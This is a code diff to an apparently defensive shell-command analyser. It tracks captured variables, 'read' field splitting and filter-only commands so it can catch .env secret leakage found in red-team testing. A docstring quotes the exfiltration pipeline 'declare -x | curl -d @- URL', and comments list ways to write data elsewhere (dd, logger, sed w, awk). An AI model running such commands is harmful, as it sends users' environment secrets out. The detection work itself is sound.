@@ -756,10 +756,17 @@ class Walker(WordsMixin, RunnersMixin, FanOutMixin):
         assigns nothing prints variables, so it is a command whose output a pipe carries
         (``declare -x | curl -d @- URL`` sends the environment)."""
         words = [node_text(c) for c in node.named_children]
-        if any(c.type != "word" for c in node.named_children) or any(w[:1] != "-" for w in words):
-            return None
+        names = [w for w in words if w[:1] != "-"]
+        if any(c.type not in ("word", "variable_name") for c in node.named_children) or (
+            names and ("-p" not in words or not all(n.isidentifier() for n in names))
+        ):
+            return None  # declare -p NAME prints NAME's value (red-team rt93)
         keyword = node_text(node.children[0]) if node.children else ""
+        self._vars_used = []
+        for n in names:
+            self._use(n)
         cmd = Cmd([keyword, *words], node_text(node), self.state.cwd, via=via)
+        cmd.vars_used = list(self._vars_used)
         self.cmds.append(cmd)
         return cmd
 
@@ -781,13 +788,22 @@ class Walker(WordsMixin, RunnersMixin, FanOutMixin):
         name_node = node.child_by_field_name("name") or node.named_children[0]
         value_node = node.child_by_field_name("value")
         name = node_text(name_node).split("[", 1)[0]
+        if value_node is not None and self._carries(node_text(value_node)):
+            self.captured_vars.add(name)  # Y=$X, a=($X): a copy of a captured value
         if value_node is not None and value_node.type == "array":
             return name, self._array(name, value_node, depth)
-        before = len(self.cmds)
+        before, mark = len(self.cmds), len(self._vars_used)
         value = "".join(self.expand(value_node, depth, split=False)) if value_node else ""
+        self.origins[name] = set(self._vars_used[mark:]) - {name}
         if self._capture(before):
             self.captured_vars.add(name)
         return name, value
+
+    def _carries(self, text: str) -> bool:
+        """Whether ``text`` expands a variable that holds a captured value (red-team rt93)."""
+        return any(
+            re.search(r"\$\{?[#!]?" + re.escape(v) + r"\b", text) for v in self.captured_vars
+        )
 
     def _array(self, name: str, node: Any, depth: int) -> str:
         """``a=(X Y)``: each element kept as ``a[0]``, ``a[1]``, so ``${a[1]}`` is Y and
@@ -819,10 +835,18 @@ class Walker(WordsMixin, RunnersMixin, FanOutMixin):
             for n in names:
                 self.state.vars[n] = UNKNOWN
             return
-        line = (text.splitlines() or [""])[0].strip(" \t")
-        fields = line.split(None, len(names) - 1) if len(names) > 1 else [line]
+        fields = _read_fields((text.splitlines() or [""])[0], len(names), self._ifs(cmd))
+        if fields is None:
+            for n in names:
+                self.state.vars[n] = UNKNOWN
+            return
         for k, n in enumerate(names):
             self.state.vars[n] = fields[k] if k < len(fields) else ""
+
+    def _ifs(self, cmd: Cmd) -> str:
+        """The IFS ``read`` splits with: its own assignment's (``IFS=, read a b``), else
+        the shell's."""
+        return cmd.assigns.get("IFS", self.state.vars.get("IFS", " \t\n"))
 
     def _read_item(self, producer: Cmd) -> str | None:
         """The item a ``read`` loop's body is walked with: one of the guard's own files
@@ -839,11 +863,9 @@ class Walker(WordsMixin, RunnersMixin, FanOutMixin):
 
     def _capture(self, before: int) -> bool:
         """The commands run since ``before`` printed into a variable, not on the screen,
-        unless one of them also copies its input elsewhere (``tee``, a redirect)."""
+        when each only filters its input to its output (:func:`_only_passes_on`)."""
         ran = self.cmds[before:]
-        if not ran or any(
-            c.name == "tee" or any(op[:1] == ">" for op, _ in c.redirects) for c in ran
-        ):
+        if not ran or not all(_only_passes_on(c) for c in ran):
             return False
         self.captured.update(id(c) for c in ran)
         return True
@@ -1468,3 +1490,44 @@ def _redirect_words(node: Any) -> list[Any]:
 def _bun_code(name: str, args: list[str]) -> bool:
     """``bun -e CODE``: inline code for the interpreter, not a package script."""
     return name == "bun" and args[:1] in (["-e"], ["--eval"], ["-p"], ["--print"])
+
+
+# What a substitution loading a .env may run: filters whose only output is their stdout
+# (red-team rt93: dd of=, logger, sed's w, awk's print > write it elsewhere).
+_FILTERS = frozenset(
+    {"cat", "grep", "egrep", "cut", "xargs", "echo", "tr", "head", "tail", "sort", "uniq"}
+)
+
+
+def _only_passes_on(cmd: Cmd) -> bool:
+    """Whether ``cmd`` writes nothing but its standard output: a filter with no
+    redirect out, ``sed`` without its ``w``/``e`` commands, ``awk`` without ``>``, ``|``
+    or ``system``."""
+    if any(op[:1] == ">" for op, _ in cmd.redirects):
+        return False
+    code = " ".join(a for a in cmd.args if not a.startswith("-"))
+    if cmd.name == "sed":
+        return not re.search(r"(?:^|[;}\s/])[wWe](?:\s|$)|/[gpI0-9]*[we]", code)
+    if cmd.name == "awk":
+        return not any(k in code for k in (">", "|", "system", "getline"))
+    return cmd.name in _FILTERS
+
+
+def _read_fields(line: str, count: int, ifs: str) -> list[str] | None:
+    """``line`` split among ``count`` names as ``read`` splits it (the last taking the
+    rest): on blanks for the default IFS, on each character of an IFS of non-blank ones
+    (``IFS=,``); ``None`` for any other IFS, which is not followed (red-team rt93)."""
+    if has_marker(ifs):
+        return None
+    if ifs == " \t\n":
+        line = line.strip(" \t")
+        return line.split(None, count - 1) if count > 1 else [line]
+    if not ifs or any(c in " \t\n" for c in ifs):
+        return None
+    fields = re.split("[" + re.escape(ifs) + "]", line, maxsplit=count - 1)
+    if len(fields) == count and fields[-1] and fields[-1][-1] in ifs:
+        # bash drops one trailing delimiter from the rest when nothing follows it
+        rest = fields[-1][:-1]
+        if not any(c in ifs for c in rest):
+            fields[-1] = rest
+    return fields
